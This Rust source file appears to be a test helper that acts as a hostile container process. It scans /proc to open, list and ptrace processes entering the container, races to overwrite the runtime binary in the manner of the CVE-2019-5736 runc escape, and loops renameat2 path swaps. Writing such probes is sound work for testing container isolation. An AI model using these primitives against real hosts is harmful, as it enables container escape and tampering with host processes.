//! Verbs of a hostile container.

use std::collections::BTreeSet;
use std::fs::{self, OpenOptions};
use std::os::unix::fs::OpenOptionsExt;
use std::time::{Duration, Instant};

use nix::sys::ptrace;
use nix::unistd::Pid;
use serde_json::json;

use crate::{Answer, arg, errno, number, say};

pub fn answer(verb: &str, args: &[&str]) -> Option<Answer> {
    Some(match verb {
        "watch" => watch(arg(args, 0)),
        "overwrite" => Ok(json!(overwrite(arg(args, 0), number(args, 1) as u64))),
        "swap-loop" => swap_loop(args),
        _ => return None,
    })
}

/// `watch STOPFILE`: until the file appears, tries to get hold of every process that enters the container
/// before it has become `/payload`, and reports each success.
fn watch(stop: &str) -> Answer {
    let mut found = BTreeSet::new();
    let mut seen = BTreeSet::new();
    let mut traced = BTreeSet::new();
    say(&json!("ready"));
    while fs::symlink_metadata(stop).is_err() {
        let Ok(dir) = fs::read_dir("/proc") else { continue };
        for pid in dir.flatten().filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok()) {
            if pid as u32 != std::process::id() {
                seen.insert(pid);
                attempt(pid, &mut found, &mut traced);
            }
        }
    }
    Ok(json!({"seen": seen.len(), "found": found}))
}

/// The deed first and the question who it was after: a process that has become `/payload` in between is
/// missed, but one that always was is never reported.
fn attempt(pid: i32, found: &mut BTreeSet<String>, traced: &mut BTreeSet<i32>) {
    let exe = format!("/proc/{pid}/exe");
    let stranger = || match fs::read_link(&exe) {
        Ok(link) if link.to_string_lossy() != "/payload" => Some(link.to_string_lossy().into_owned()),
        _ => None,
    };
    for what in ["exe", "root", "cwd", "mem"] {
        if OpenOptions::new().read(true).open(format!("/proc/{pid}/{what}")).is_ok()
            && let Some(who) = stranger()
        {
            found.insert(format!("opened {what} of {who}"));
        }
    }
    if let Ok(dir) = fs::read_dir(format!("/proc/{pid}/fd")) {
        let fds: Vec<_> = dir.flatten().filter_map(|e| fs::read_link(e.path()).ok()).collect();
        if let Some(who) = stranger() {
            found.insert(format!("listed {} fds of {who}", fds.len()));
        }
    }
    // Once each: stopped again and again, it would never get on.
    if !traced.contains(&pid) && ptrace::attach(Pid::from_raw(pid)).is_ok() {
        traced.insert(pid);
        if let Some(who) = stranger() {
            found.insert(format!("traced {who}"));
        }
        let _ = nix::sys::wait::waitpid(Pid::from_raw(pid), None);
        let _ = ptrace::detach(Pid::from_raw(pid), None);
        // The stop may still be to come, after the SIGTRAP of an exec that was under way.
        let _ = nix::sys::signal::kill(Pid::from_raw(pid), nix::sys::signal::Signal::SIGCONT);
    }
    if let Some(who) = stranger() {
        found.insert(format!("read the exe link of {who}"));
    }
}

/// Opens `path` without access rights, then for `ms` milliseconds tries to open that for writing, as the
/// exploit of CVE-2019-5736 does once the runtime has ended.
fn overwrite(path: &str, ms: u64) -> String {
    let Ok(held) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(path) else {
        return "not opened".into();
    };
    let again = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&held));
    let end = Instant::now() + Duration::from_millis(ms);
    let mut last = String::new();
    while Instant::now() < end {
        match OpenOptions::new().write(true).open(&again) {
            Ok(mut file) => {
                let wrote = std::io::Write::write_all(&mut file, b"#!/bin/false\n");
                return format!("opened for writing, wrote: {wrote:?}");
            }
            Err(error) => last = format!("{:?}", errno(error)),
        }
    }
    last
}

/// `swap-loop A B`: exchanges two names for ever.
fn swap_loop(args: &[&str]) -> Answer {
    let to_c = |i| std::ffi::CString::new(arg(args, i)).unwrap_or_default();
    let (a, b) = (to_c(0), to_c(1));
    say(&json!("ready"));
    loop {
        // SAFETY: two NUL-terminated paths that outlive the call.
        unsafe {
            libc::renameat2(libc::AT_FDCWD, a.as_ptr(), libc::AT_FDCWD, b.as_ptr(), libc::RENAME_EXCHANGE)
        };
    }
}
